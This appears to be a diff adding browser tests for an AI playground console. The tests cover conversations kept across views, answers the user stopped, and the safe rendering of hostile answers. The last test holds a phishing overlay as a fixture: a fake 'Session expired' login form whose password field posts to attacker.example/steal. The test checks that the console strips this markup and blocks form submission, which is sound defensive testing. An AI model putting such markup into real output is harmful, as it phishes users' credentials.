@@ -409,3 +409,72 @@ describe('serving the console', () => {
     expect(((await res.json()) as any).error.code).toBe('unknown_url');
   });
 });
+
+describe('the playground across views, stopped, and against hostile answers', () => {
+  let baseUrl: string;
+  let page: Page;
+
+  beforeAll(async () => {
+    baseUrl = await startServer();
+    page = await browser.context.newPage();
+    await page.goto(baseUrl);
+    await page.getByRole('option', { name: 'cortex-flow', exact: true }).waitFor({ state: 'attached', ...SETTLE });
+  });
+
+  it('keeps the conversation across views, and a run viewed while its answer streams goes on', async () => {
+    book.add(
+      'viewed',
+      teamScript('viewed', {
+        writer: { text: 'Slowly but surely, it arrives. [[viewed]]', chunkSize: 3, chunkDelayMs: 150 },
+      }),
+    );
+    await send(page, 'Take your time [[viewed]]');
+    await page.getByRole('link', { name: 'View run' }).click();
+    const status = page.getByTestId('run-status');
+    await status.waitFor();
+    // Leaving the playground did not stop the run: it is followed live and ends completed.
+    await expect.poll(() => status.innerText(), SETTLE).toBe('completed');
+    await page.getByRole('link', { name: 'Playground' }).click();
+    await expect
+      .poll(() => page.getByTestId('answer').innerText(), SETTLE)
+      .toBe('Slowly but surely, it arrives. [[viewed]]');
+    expect(await page.locator('.turn.user').innerText()).toContain('Take your time [[viewed]]');
+  });
+
+  it('marks an answer the user stopped as stopped, not as complete', async () => {
+    book.add(
+      'stopped',
+      teamScript('stopped', {
+        writer: { text: 'This answer takes far too long to write. [[stopped]]', chunkSize: 2, chunkDelayMs: 200 },
+      }),
+    );
+    await page.getByRole('button', { name: 'New conversation' }).click();
+    await send(page, 'Go on and on [[stopped]]');
+    await expect.poll(() => page.getByTestId('answer').last().innerText(), SETTLE).toContain('This');
+    await page.getByRole('button', { name: 'Stop' }).click();
+    await expect.poll(() => page.getByRole('alert').last().innerText(), SETTLE).toBe('Stopped.');
+    expect(await page.getByRole('status').innerText()).toBe('Stopped.');
+    // Looked at later, the stopped run lasted as long as it ran, and says it was cancelled.
+    await new Promise((r) => setTimeout(r, 3000));
+    await page.getByRole('link', { name: 'View run' }).last().click();
+    await expect.poll(() => page.getByTestId('run-status').innerText(), SETTLE).toBe('cancelled');
+    expect(await page.getByTestId('run-failure').innerText()).toContain('The run was cancelled');
+    const wall = await page.getByTestId('wall-time').innerText();
+    expect(Number.parseFloat(wall)).toBeLessThan(3);
+    await page.getByRole('link', { name: 'Playground' }).click();
+  });
+
+  it('renders no form and no styled overlay out of an answer, and forbids form submissions', async () => {
+    const overlay =
+      '<div style="position:fixed;inset:0;background:white;z-index:9999"><h1>Session expired</h1>' +
+      '<form action="https://attacker.example/steal"><input name="key" type="password"><button>Sign in</button></form></div>';
+    book.add('phish', teamScript('phish', { writer: { text: `${overlay} [[phish]]` } }));
+    await page.getByRole('button', { name: 'New conversation' }).click();
+    await send(page, 'Anything [[phish]]');
+    await expect.poll(() => page.getByTestId('answer').last().innerText(), SETTLE).toContain('Session expired');
+    const answer = page.getByTestId('answer').last();
+    expect(await answer.locator('form, input, button, [style]').count()).toBe(0);
+    const res = await fetch(baseUrl);
+    expect(res.headers.get('content-security-policy')).toContain("form-action 'none'");
+  });
+});
